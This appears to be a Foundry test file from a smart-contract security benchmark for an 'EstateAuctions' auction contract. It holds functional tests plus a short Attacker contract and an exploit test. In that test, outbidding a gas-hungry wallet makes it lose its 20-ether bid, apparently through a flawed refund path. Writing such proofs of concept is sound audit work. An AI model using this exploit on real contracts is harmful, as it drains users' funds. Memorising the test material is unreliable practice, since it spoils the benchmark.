// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./EstateAuctions.sol";

// assay-canary-c95b25ac-4900-4460-a41f-011a23c028e2

interface Vm {
    function deal(address account, uint256 amount) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

// A wallet that keeps a log of what it receives, which takes more gas than a plain account needs.
contract LoggingWallet {
    address private immutable holder = msg.sender;
    uint256[] public log;

    receive() external payable {
        log.push(msg.value);
    }

    function run(address to, uint256 amount, bytes calldata data) external {
        require(msg.sender == holder, "holder only");
        (bool done,) = to.call{value: amount}(data);
        require(done, "refused");
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant HOUSE = address(0x09E);
    uint256 private constant START = 1_700_000_000;

    EstateAuctions private auctions;
    LoggingWallet private wallet;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        auctions = new EstateAuctions(HOUSE);
        wallet = new LoggingWallet();
        vm.deal(address(wallet), 21 ether);
        vm.deal(ANA, 100 ether);
        vm.deal(BEN, 100 ether);
        vm.prank(ANA);
        auctions.consign{value: 0.1 ether}("desk", 1 ether, 7 days);
        wallet.run(address(auctions), 20 ether, abi.encodeCall(EstateAuctions.bid, (0)));
        mallory = new Attacker(auctions);
        vm.deal(address(mallory), 21 ether);
    }

    function test_Regular() public {
        vm.prank(ANA);
        require(auctions.consign{value: 0.1 ether}("lamp", 2 ether, 1 days) == 1, "second");
        require(auctions.wantedFor(1) == 2 ether && auctions.lotAt(1).endsAt == START + 1 days, "reserve");
        vm.prank(BEN);
        auctions.bid{value: 4 ether}(1);
        require(auctions.wantedFor(1) == 4.2 ether && BEN.balance == 96 ether, "bid");
        vm.warp(START + 1 days - 1 minutes);
        vm.prank(ANA);
        auctions.bid{value: 5 ether}(1);
        require(BEN.balance == 100 ether && auctions.lotAt(1).endsAt == START + 1 days + 9 minutes, "prolonged");
        vm.warp(START + 1 days + 9 minutes);
        auctions.settle(1);
        require(auctions.credits(ANA) == 5 ether && auctions.credits(HOUSE) == 0.1 ether, "settled");
        vm.prank(ANA);
        auctions.withdraw(BEN);
        vm.prank(HOUSE);
        auctions.withdraw(HOUSE);
        require(BEN.balance == 105 ether && HOUSE.balance == 0.1 ether && auctions.credits(ANA) == 0, "withdrawn");

        vm.prank(BEN);
        auctions.consign{value: 0.1 ether}("vase", 0, 30 days);
        vm.prank(BEN);
        auctions.recall(2);
        require(BEN.balance == 105 ether && auctions.lotAt(2).closed, "recalled");
        wallet.run(address(auctions), 0.1 ether, abi.encodeCall(EstateAuctions.consign, ("clock", 1, 1 hours)));
        wallet.run(address(auctions), 0, abi.encodeCall(EstateAuctions.recall, (3)));
        require(auctions.credits(address(wallet)) == 0.1 ether, "credited");
        wallet.run(address(auctions), 0, abi.encodeCall(Credits.withdraw, (address(wallet))));
        require(address(wallet).balance == 1 ether && wallet.log(0) == 0.1 ether, "logged");
        vm.prank(BEN);
        auctions.consign{value: 0.1 ether}("chair", 1 ether, 1 hours);
        vm.warp(START + 7 days);
        auctions.settle(4);
        auctions.settle(0);
        require(auctions.credits(BEN) == 0.1 ether && auctions.credits(ANA) == 19.7 ether, "no bids, and one");
        require(address(auctions).balance == 20.2 ether, "all there");
    }

    function expect(bytes memory reason) private {
        vm.expectRevert(reason);
    }

    function test_RefusesSellers() public {
        expect(abi.encodeWithSelector(EstateAuctions.NoHouse.selector));
        new EstateAuctions(address(0));
        vm.startPrank(BEN);
        expect(abi.encodeWithSelector(EstateAuctions.WrongBond.selector, 1));
        auctions.consign{value: 1}("desk", 1, 1 days);
        expect(abi.encodeWithSelector(EstateAuctions.BadDuration.selector, 1 hours - 1));
        auctions.consign{value: 0.1 ether}("desk", 1, 1 hours - 1);
        expect(abi.encodeWithSelector(EstateAuctions.BadDuration.selector, 30 days + 1));
        auctions.consign{value: 0.1 ether}("desk", 1, 30 days + 1);
        expect(abi.encodeWithSelector(EstateAuctions.NotSeller.selector, BEN));
        auctions.recall(0);
        auctions.consign{value: 0.1 ether}("desk", 1, 1 days);
        auctions.recall(1);
        expect(abi.encodeWithSelector(EstateAuctions.Closed.selector, 1));
        auctions.recall(1);
        vm.stopPrank();
        vm.prank(ANA);
        expect(abi.encodeWithSelector(EstateAuctions.HasBids.selector, 0));
        auctions.recall(0);
    }

    function test_RefusesBidders() public {
        vm.prank(ANA);
        auctions.consign{value: 0.1 ether}("lamp", 1 ether, 1 days);
        vm.prank(ANA);
        auctions.recall(1);
        vm.startPrank(BEN);
        expect(abi.encodeWithSelector(EstateAuctions.Closed.selector, 1));
        auctions.bid{value: 1 ether}(1);
        expect(abi.encodeWithSelector(EstateAuctions.NoSuchLot.selector, 2));
        auctions.bid{value: 1 ether}(2);
        expect(abi.encodeWithSelector(EstateAuctions.TooLow.selector, 21 ether - 1, 21 ether));
        auctions.bid{value: 21 ether - 1}(0);
        vm.warp(START + 7 days);
        expect(abi.encodeWithSelector(EstateAuctions.Over.selector, START + 7 days));
        auctions.bid{value: 21 ether}(0);
        vm.stopPrank();
    }

    function test_RefusesSettlement() public {
        vm.warp(START + 7 days - 1);
        expect(abi.encodeWithSelector(EstateAuctions.NotOver.selector, START + 7 days));
        auctions.settle(0);
        vm.warp(START + 7 days);
        auctions.settle(0);
        expect(abi.encodeWithSelector(EstateAuctions.Closed.selector, 0));
        auctions.settle(0);
        expect(abi.encodeWithSelector(Credits.NothingToWithdraw.selector, BEN));
        vm.prank(BEN);
        auctions.withdraw(BEN);
        vm.prank(ANA);
        expect(abi.encodeWithSelector(Credits.NotPaid.selector, taker(), 19.7 ether));
        auctions.withdraw(taker());
    }

    // an address that takes no ether
    function taker() private view returns (address) {
        return address(auctions);
    }

    /// What the wallet can still get out: its bid while it leads, or what it was given for it.
    function claims() public view returns (uint256 sum) {
        sum = auctions.credits(address(wallet)) + address(wallet).balance;
        if (auctions.lotAt(0).leader == address(wallet)) sum += auctions.lotAt(0).best;
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        uint256 before = claims();
        exploit();
        require(before - claims() >= 20 ether, "nothing was lost");
    }

    function target() public view returns (address) {
        return address(auctions);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    EstateAuctions private auctions;

    constructor(EstateAuctions a) {
        auctions = a;
    }

    function run() external {
        auctions.bid{value: 21 ether}(0);
    }
}
